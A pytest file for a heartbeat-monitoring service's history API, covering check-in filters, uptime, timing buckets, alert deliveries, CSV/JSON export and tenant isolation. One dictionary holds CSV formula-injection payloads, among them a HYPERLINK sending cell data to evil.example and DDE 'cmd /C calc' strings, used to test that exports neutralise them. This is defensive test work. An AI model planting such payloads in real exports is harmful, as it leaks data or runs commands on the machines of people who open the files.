"""A heartbeat's history over real HTTP, as ``pingura serve`` mounts the API: check-ins by
kind and time, uptime over any range, timings at a bucket the server picks, status
changes, alerts sent, and the export in csv, json and JSON lines.

History rows are put straight into the session's ClickHouse (the writer that fills it from
the bus has tests of its own), under a project and a heartbeat made through the API.
"""

from __future__ import annotations

import csv
import io
import json
import time

import msgspec
import pytest

from services.query.api.history import pick_bucket_s
from shared.events import CheckinJudged
from tests.services.query.api.tenants import Tenant, new_tenant
from tests.services.query.factories import a_delivery, a_miss, a_ping, a_status_change

pytestmark = pytest.mark.asyncio(loop_scope="session")

S, MINUTE_S, HOUR_S, DAY_S = 1, 60, 3600, 86400
HOUR_MS, DAY_MS = HOUR_S * 1000, DAY_S * 1000


def now_ms() -> int:
    return int(time.time()) * 1000


def iso(ms: int) -> str:
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(ms // 1000)) + f".{ms % 1000:03d}Z"


async def a_heartbeat(api, created_ago_ms: int = 0) -> tuple[Tenant, str]:
    """A fresh project and one of its heartbeats, made ``created_ago_ms`` ago."""
    tenant = await new_tenant(api)
    made = await tenant.ok("POST", "/heartbeats", 201, json={"name": "backup", "interval": "1d"})
    if created_ago_ms:
        ctx = api.ctx
        monitor = ctx.monitors.get(made["id"])
        older = msgspec.structs.replace(monitor, created_ms=monitor.created_ms - created_ago_ms,
                                        revision=monitor.revision + 1)  # fmt: skip
        await ctx.save(ctx.topics.monitors, older, ctx.monitors)
    return tenant, made["id"]


def a_verdict(ping, *verdicts, **fields) -> CheckinJudged:
    """What the evaluator writes about ``ping``, dated at its event time."""
    return CheckinJudged(id=f"{ping.monitor_id}:judged:{ping.id}", monitor_id=ping.monitor_id,
                         project_id=ping.project_id, ping_id=ping.id, at_ms=ping.received_ms,
                         verdicts=list(verdicts), **fields)  # fmt: skip


async def record(api, events) -> None:
    await api.ctx.store.insert_events(events, f"t-api-history-{time.monotonic_ns()}")


async def every_page(tenant: Tenant, path: str, key: str, **params) -> list[dict]:
    found, cursor = [], None
    while True:
        body = await tenant.ok("GET", path, params={**params, **({"before": cursor} if cursor else {})})
        found += body[key]
        cursor = body["next"]
        if cursor is None:
            return found


# check-ins ---------------------------------------------------------------------------------
async def test_check_ins_can_be_narrowed_to_kinds_and_a_time_range_on_every_page(api):
    tenant, hb = await a_heartbeat(api)
    t = now_ms()
    await record(api, [
        a_ping(tenant.project_id, hb, t - 1000, kind="success"),
        a_ping(tenant.project_id, hb, t - 2000, kind="fail"),
        a_miss(tenant.project_id, hb, t - 3000),
        a_ping(tenant.project_id, hb, t - 4000, kind="fail"),
        a_ping(tenant.project_id, hb, t - 5000, kind="success"),
        a_miss(tenant.project_id, hb, t - 6000),
    ])  # fmt: skip
    path = f"/heartbeats/{hb}/checkins"

    problems = await every_page(tenant, path, "checkins", kind="fail,missed", limit="1")
    in_range = await every_page(
        tenant, path, "checkins", **{"from": iso(t - 5000), "to": str(t - 2000), "limit": "2"}
    )
    both = await every_page(tenant, path, "checkins", kind="missed", **{"from": str(t - 4000)})

    assert [(r["kind"], r["received_at_ms"]) for r in problems] == [
        ("fail", t - 2000), ("missed", t - 3000), ("fail", t - 4000), ("missed", t - 6000),
    ]  # fmt: skip
    assert [r["received_at_ms"] for r in in_range] == [t - 3000, t - 4000, t - 5000]  # "to" is exclusive
    assert [r["received_at_ms"] for r in both] == [t - 3000]
    everything = await tenant.ok("GET", path)
    assert len(everything["checkins"]) == 6 and everything["next"] is None


async def test_a_page_shows_the_start_of_each_output_and_the_check_in_shows_all_of_it(api):
    from shared.ids import new_ping_id

    tenant, hb = await a_heartbeat(api)
    t = now_ms()
    long_output = "line of a backup log\n" * 4000  # 84 kB: a borgmatic log
    ping = a_ping(tenant.project_id, hb, t - 1000, output=long_output)
    ping = msgspec.structs.replace(ping, id=new_ping_id(t - 1000))  # a real ping id, time-ordered
    await record(api, [ping, a_ping(tenant.project_id, hb, t - 500, output="short")])

    [short, long] = (await tenant.ok("GET", f"/heartbeats/{hb}/checkins"))["checkins"]
    assert (short["output"], short["output_truncated"]) == ("short", False)
    assert len(long["output"]) == 2000 and long["output_truncated"] is True
    whole = await tenant.ok("GET", f"/heartbeats/{hb}/checkins/{ping.id}")
    assert whole["output"] == long_output and whole["output_truncated"] is False
    missing = await tenant.call("GET", f"/heartbeats/{hb}/checkins/{new_ping_id(t)}")
    assert missing[0] == 404


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"kind": "bogus"}, "kind"),
        ({"kind": "fail,"}, "kind"),
        ({"kind": "FAIL"}, "kind"),
        ({"from": "yesterday"}, "from"),
        ({"from": "2024-01-02", "to": "2024-01-01"}, "from"),
        ({"to": "99999999999999999999"}, "to"),
        ({"limit": "0"}, "limit"),
        ({"before": "not-a-cursor"}, "before"),
        ({"verdict": "slow"}, "verdict"),
        ({"verdict": "too_fast,"}, "verdict"),
        ({"instance": "w" * 65}, "instance"),
        ({"instance": ""}, "instance"),
    ],
)
async def test_a_bad_check_in_filter_is_refused_naming_it(api, params, field):
    tenant, hb = await a_heartbeat(api)

    status, body = await tenant.call("GET", f"/heartbeats/{hb}/checkins", params=params)

    assert status == 400 and body["field"] == field, body


async def test_check_ins_show_their_instance_and_what_the_rules_found_and_filter_on_both(api):
    tenant, hb = await a_heartbeat(api)
    t = now_ms()
    fast = a_ping(tenant.project_id, hb, t - 3000, duration_s=3.0, instance="web-1")
    other = a_ping(tenant.project_id, hb, t - 2000, instance="web-2")
    plain = a_ping(tenant.project_id, hb, t - 1000, instance="web-1")
    await record(api, [fast, other, plain, a_verdict(fast, "too_fast", alerted=True, reason="run took 3 s")])
    path = f"/heartbeats/{hb}/checkins"

    everything = (await tenant.ok("GET", path))["checkins"]
    web_1 = await every_page(tenant, path, "checkins", instance="web-1", limit="1")
    too_fast = (await tenant.ok("GET", path, params={"verdict": "too_slow,too_fast"}))["checkins"]

    shown = ("instance", "verdicts", "verdict_reason", "alerted", "keyword")
    assert [tuple(c[k] for k in shown) for c in everything] == [
        ("web-1", [], None, False, None),
        ("web-2", [], None, False, None),
        ("web-1", ["too_fast"], "run took 3 s", True, None),
    ]
    assert [c["id"] for c in web_1] == [plain.id, fast.id]
    assert [c["id"] for c in too_fast] == [fast.id]
    assert (await tenant.ok("GET", f"{path}/{fast.id}"))["verdicts"] == ["too_fast"]


# uptime ------------------------------------------------------------------------------------
async def test_uptime_over_a_range_counts_outages_and_only_observed_time(api):
    tenant, hb = await a_heartbeat(api, created_ago_ms=10 * HOUR_MS)
    t = now_ms()
    changes = [
        ("up", "new", t - 9 * HOUR_MS),  # the hour before the first ping is not observed
        ("down", "up", t - 8 * HOUR_MS),
        ("up", "down", t - 7 * HOUR_MS),
        ("paused", "up", t - 6 * HOUR_MS),  # paused for 2 h: not observed
        ("new", "paused", t - 4 * HOUR_MS),  # resumed, waiting for a ping: not observed
        ("up", "new", t - 7 * HOUR_MS // 2),
        ("down", "up", t - 2 * HOUR_MS),
    ]
    await record(api, [a_status_change(tenant.project_id, hb, at, s, prev) for s, prev, at in changes])

    # From before the heartbeat existed: counted from its creation.
    body = await tenant.ok("GET", f"/heartbeats/{hb}/uptime",
                           params={"from": iso(t - 12 * HOUR_MS), "to": str(t - HOUR_MS)})  # fmt: skip

    # Observed: 3 h (-9h..-6h) + 2.5 h (-3.5h..-1h); down: 1 h + 1 h, in two outages.
    assert body["range"] == {
        "from": iso(t - 12 * HOUR_MS), "to": iso(t - HOUR_MS), "uptime": round(100 * 3.5 / 5.5, 3),
        "outages": 2, "downtime_s": 2 * HOUR_S, "observed_s": 5.5 * HOUR_S,
    }  # fmt: skip
    assert set(body["uptime"]) == {"24h", "7d", "30d", "90d"}
    assert body["uptime"]["24h"] == body["uptime"]["90d"]  # all four start at the creation


async def test_the_future_is_not_observed(api):
    tenant, hb = await a_heartbeat(api, created_ago_ms=DAY_MS)
    t = now_ms()
    await record(api, [a_status_change(tenant.project_id, hb, t - HOUR_MS, "down", "up")])

    body = await tenant.ok("GET", f"/heartbeats/{hb}/uptime",
                           params={"from": str(t - HOUR_MS), "to": str(t + DAY_MS)})  # fmt: skip

    assert body["range"]["uptime"] == 0.0 and body["range"]["outages"] == 1
    assert HOUR_S <= body["range"]["downtime_s"] == body["range"]["observed_s"] < HOUR_S + 60


async def test_uptime_answers_a_range_only_when_one_is_asked_for(api):
    tenant, hb = await a_heartbeat(api)

    plain = await tenant.ok("GET", f"/heartbeats/{hb}/uptime")
    since_creation = await tenant.ok("GET", f"/heartbeats/{hb}/uptime", params={"to": str(now_ms())})

    assert "range" not in plain
    assert plain["uptime"] == {"24h": None, "7d": None, "30d": None, "90d": None}
    assert since_creation["range"]["uptime"] is None and since_creation["range"]["observed_s"] == 0
    status, body = await tenant.call("GET", f"/heartbeats/{hb}/uptime", params={"from": "2030-01-01",
                                                                               "to": "2029-01-01"})  # fmt: skip
    assert status == 400 and body["field"] == "from"


# timings -----------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("span_s", "bucket_s"),
    [
        (1, MINUTE_S), (500 * MINUTE_S, MINUTE_S), (500 * MINUTE_S + 1, 5 * MINUTE_S), (HOUR_S, MINUTE_S),
        (DAY_S, 5 * MINUTE_S), (7 * DAY_S, HOUR_S), (30 * DAY_S, 6 * HOUR_S), (90 * DAY_S, 6 * HOUR_S),
        (400 * DAY_S, DAY_S), (2 * 365 * DAY_S, 7 * DAY_S), (40 * 365 * DAY_S, 30 * DAY_S),
        (100 * 365 * DAY_S, 73 * DAY_S),
    ],
)  # fmt: skip
async def test_the_server_picks_the_roundest_bucket_giving_at_most_500_points(span_s, bucket_s):
    assert pick_bucket_s(span_s * 1000) == bucket_s
    assert span_s / bucket_s <= 500


async def test_timings_without_a_bucket_are_downsampled_to_about_500_points(api):
    tenant, hb = await a_heartbeat(api)
    t = now_ms()
    # A ping every 30 min for 20 days: 960 of them.
    await record(api, [a_ping(tenant.project_id, hb, t - i * HOUR_MS // 2, duration_s=float(i % 7))
                       for i in range(1, 961)])  # fmt: skip

    long_range = await tenant.ok("GET", f"/heartbeats/{hb}/timings",
                                 params={"from": str(t - 21 * DAY_MS), "to": str(t)})  # fmt: skip
    default_week = await tenant.ok("GET", f"/heartbeats/{hb}/timings", params={"to": str(t)})
    asked = await tenant.ok("GET", f"/heartbeats/{hb}/timings",
                            params={"from": str(t - 6 * HOUR_MS), "to": str(t), "bucket": "15m"})  # fmt: skip

    assert long_range["bucket_s"] == 6 * HOUR_S
    assert len(long_range["points"]) <= 21 * 4 + 1
    assert sum(p["count"] for p in long_range["points"]) == 960
    assert all(p["bucket_ms"] % (6 * HOUR_MS) == 0 for p in long_range["points"])
    assert default_week["bucket_s"] == HOUR_S and sum(p["count"] for p in default_week["points"]) == 7 * 48
    assert asked["bucket_s"] == 15 * MINUTE_S and sum(p["count"] for p in asked["points"]) == 12


async def test_timings_list_the_runs_a_run_time_rule_judged_for_the_graph_to_mark(api):
    tenant, hb = await a_heartbeat(api)
    t = now_ms()
    slow = a_ping(tenant.project_id, hb, t - 2 * HOUR_MS, duration_s=400.0)
    early = a_ping(tenant.project_id, hb, t - HOUR_MS, duration_s=40.0)
    await record(api, [slow, early, a_verdict(slow, "too_slow", duration_s=400.0, usual_low_s=20.0, usual_high_s=80.0),
                       a_verdict(early, "too_early", alerted=True)])  # fmt: skip

    timings = await tenant.ok("GET", f"/heartbeats/{hb}/timings", params={"to": str(t), "bucket": "1h"})

    assert [(run["ping_id"], run["outlier"], run["verdicts"]) for run in timings["outliers"]] == [
        (slow.id, True, ["too_slow"])
    ]
    assert (timings["outliers"][0]["usual_low_s"], timings["outliers"][0]["usual_high_s"]) == (20.0, 80.0)
    assert sum(p["outliers"] for p in timings["points"]) == 1


# status changes and deliveries -------------------------------------------------------------
async def test_status_changes_are_paged_newest_first(api):
    tenant, hb = await a_heartbeat(api)
    t = now_ms()
    await record(api, [
        a_status_change(tenant.project_id, hb, t - 3000, "up", "new", "ping received"),
        a_status_change(tenant.project_id, hb, t - 2000, "down", "up", "missed 2 check-ins"),
        a_status_change(tenant.project_id, hb, t - 1000, "up", "down", "ping received"),
    ])  # fmt: skip

    changes = await every_page(tenant, f"/heartbeats/{hb}/status-changes", "changes", limit="2")

    assert changes == [
        {"id": f"{hb}:{t - 1000}:up", "at": iso(t - 1000), "status": "up", "previous": "down",
         "reason": "ping received"},
        {"id": f"{hb}:{t - 2000}:down", "at": iso(t - 2000), "status": "down", "previous": "up",
         "reason": "missed 2 check-ins"},
        {"id": f"{hb}:{t - 3000}:up", "at": iso(t - 3000), "status": "up", "previous": "new",
         "reason": "ping received"},
    ]  # fmt: skip


async def test_deliveries_list_the_alerts_sent_newest_first(api):
    tenant, hb = await a_heartbeat(api)
    t = now_ms()
    await record(api, [
        a_delivery(tenant.project_id, hb, t - 3000, incident=1, kind="down", channel_id="ch_a"),
        a_delivery(tenant.project_id, hb, t - 2000, incident=1, kind="down", channel_id="ch_b", ok=False,
                   attempts=4, error="receiver answered HTTP 503"),
        a_delivery(tenant.project_id, hb, t - 1000, incident=1, kind="up", channel_id="ch_a"),
    ])  # fmt: skip

    body = await tenant.ok("GET", f"/heartbeats/{hb}/deliveries", params={"limit": "2"})

    # Rows of notifiers from before every try was recorded (tests of tries: test_deliveries.py).
    shown = ("alert_id", "kind", "channel_id", "ok", "attempts", "at", "error", "outcome")
    assert [{k: row[k] for k in shown} for row in body["deliveries"]] == [
        {"alert_id": f"{hb}:1:up", "kind": "up", "channel_id": "ch_a", "ok": True, "attempts": 1,
         "at": iso(t - 1000), "error": "", "outcome": "delivered"},
        {"alert_id": f"{hb}:1:down", "kind": "down", "channel_id": "ch_b", "ok": False, "attempts": 4,
         "at": iso(t - 2000), "error": "receiver answered HTTP 503", "outcome": "failed"},
    ]  # fmt: skip
    assert body["next"] is not None


# export ------------------------------------------------------------------------------------
async def test_the_export_comes_as_csv_json_or_json_lines_with_the_same_rows(api):
    tenant, hb = await a_heartbeat(api)
    t = now_ms()
    await record(api, [a_ping(tenant.project_id, hb, t - i * 1000, message=f"run {i}, \"ok\"\nnext")
                       for i in range(1, 6)] + [a_miss(tenant.project_id, hb, t - 10_000)])  # fmt: skip
    path = f"{api.url}/heartbeats/{hb}/export"

    answers = {}
    for fmt in ("csv", "json", "jsonl"):
        async with api.http.get(path, params={"format": fmt}, headers=tenant.headers) as response:
            assert response.status == 200
            answers[fmt] = (response.headers["Content-Type"], response.headers["Content-Disposition"],
                            await response.text())  # fmt: skip

    content_type, disposition, text = answers["jsonl"]
    assert content_type == "application/x-ndjson"
    assert disposition == f'attachment; filename="{hb}-checkins.jsonl"'
    assert text.endswith("\n") and "\n\n" not in text
    lines = [json.loads(line) for line in text.splitlines()]
    assert lines == json.loads(answers["json"][2])
    assert [r["kind"] for r in lines] == ["missed"] + ["success"] * 5  # oldest first
    assert lines[1]["message"] == 'run 5, "ok"\nnext'
    from_csv = list(csv.DictReader(io.StringIO(answers["csv"][2])))
    assert [r["id"] for r in from_csv] == [r["id"] for r in lines]
    assert answers["csv"][0].startswith("text/csv") and answers["json"][0] == "application/json"


FORMULAS = {
    "message": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "status": "+cmd|' /C calc'!A0",
    "user_agent": "@SUM(1+1)*cmd|' /C calc'!A0",
    "rid": "-2+3",
    "output": "\t=1+1",
    "duration_raw": "\r=1",
}


async def test_the_csv_export_neutralizes_formulas_in_text_from_outside_and_json_keeps_it_exact(api):
    tenant, hb = await a_heartbeat(api)
    t = now_ms()
    await record(api, [a_ping(tenant.project_id, hb, t - 1000, kind="fail", exit_code=3, duration_s=1.5,
                              **FORMULAS)])  # fmt: skip

    status, text = await tenant.call("GET", f"/heartbeats/{hb}/export", params={"format": "csv"})

    assert status == 200
    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
    # OWASP's rule: a text cell starting with = + - @ tab or CR gets a leading ' (shown as text).
    assert {field: row[field] for field in FORMULAS} == {
        field: "'" + value for field, value in FORMULAS.items()
    }
    assert (row["exit_code"], row["duration"], row["kind"]) == ("3", "1.5", "fail")  # Pingura's own: as is
    status, text = await tenant.call("GET", f"/heartbeats/{hb}/export", params={"format": "jsonl"})
    [line] = [json.loads(line) for line in text.splitlines()]
    assert {field: line[field] for field in FORMULAS} == FORMULAS


async def test_a_line_break_inside_a_csv_cell_is_quoted_so_no_cell_starts_a_row_of_its_own(api):
    tenant, hb = await a_heartbeat(api)
    await record(api, [a_ping(tenant.project_id, hb, now_ms() - 1000, message="ok\r=1+1", status="a\r\nb")])

    status, text = await tenant.call("GET", f"/heartbeats/{hb}/export", params={"format": "csv"})

    assert status == 200
    assert '"ok\r=1+1"' in text and '"a\r\nb"' in text  # RFC 4180: a field holding CR or LF is quoted
    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
    assert (row["message"], row["status"]) == ("ok\r=1+1", "a\r\nb")


async def test_the_csv_export_writes_booleans_as_json_does_and_nothing_for_null(api):
    tenant, hb = await a_heartbeat(api)
    t = now_ms()
    await record(api, [a_ping(tenant.project_id, hb, t - 2000, output="cut", output_truncated=True),
                       a_ping(tenant.project_id, hb, t - 1000)])  # fmt: skip

    status, text = await tenant.call("GET", f"/heartbeats/{hb}/export", params={"format": "csv"})

    assert status == 200
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["output_truncated"] for r in rows] == ["true", "false"]
    assert (rows[1]["message"], rows[1]["exit_code"], rows[1]["measured_duration"]) == ("", "", "")


async def test_the_export_carries_the_instance_and_what_the_rules_found(api):
    tenant, hb = await a_heartbeat(api)
    t = now_ms()
    ping = a_ping(tenant.project_id, hb, t - 1000, instance="db-2", output="ERROR")
    await record(api, [ping, a_verdict(ping, "keyword_failure", "too_fast", alerted=True, keyword="ERROR"),
                       a_ping(tenant.project_id, hb, t - 500)])  # fmt: skip

    status, text = await tenant.call("GET", f"/heartbeats/{hb}/export", params={"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    _, lines = await tenant.call("GET", f"/heartbeats/{hb}/export", params={"format": "json"})

    assert status == 200
    shown = ("instance", "verdicts", "alerted", "keyword")
    assert [tuple(r[k] for k in shown) for r in rows] == [
        ("db-2", "keyword_failure,too_fast", "true", "ERROR"),
        ("", "", "false", ""),
    ]
    assert [tuple(r[k] for k in shown) for r in lines] == [
        ("db-2", ["keyword_failure", "too_fast"], True, "ERROR"),
        (None, [], False, None),
    ]


async def test_an_unknown_export_format_is_refused_naming_it(api):
    tenant, hb = await a_heartbeat(api)

    status, body = await tenant.call("GET", f"/heartbeats/{hb}/export", params={"format": "xml"})

    assert status == 400 and body["field"] == "format" and "jsonl" in body["error"]


# tenancy -----------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "resource", ["checkins", "uptime", "timings", "status-changes", "deliveries", "export"]
)
async def test_another_projects_heartbeat_is_not_found(api, resource):
    owner, hb = await a_heartbeat(api)
    stranger = await new_tenant(api)
    await record(api, [a_delivery(owner.project_id, hb, now_ms()), a_ping(owner.project_id, hb, now_ms())])

    status, body = await stranger.call("GET", f"/heartbeats/{hb}/{resource}")

    assert status == 404, body
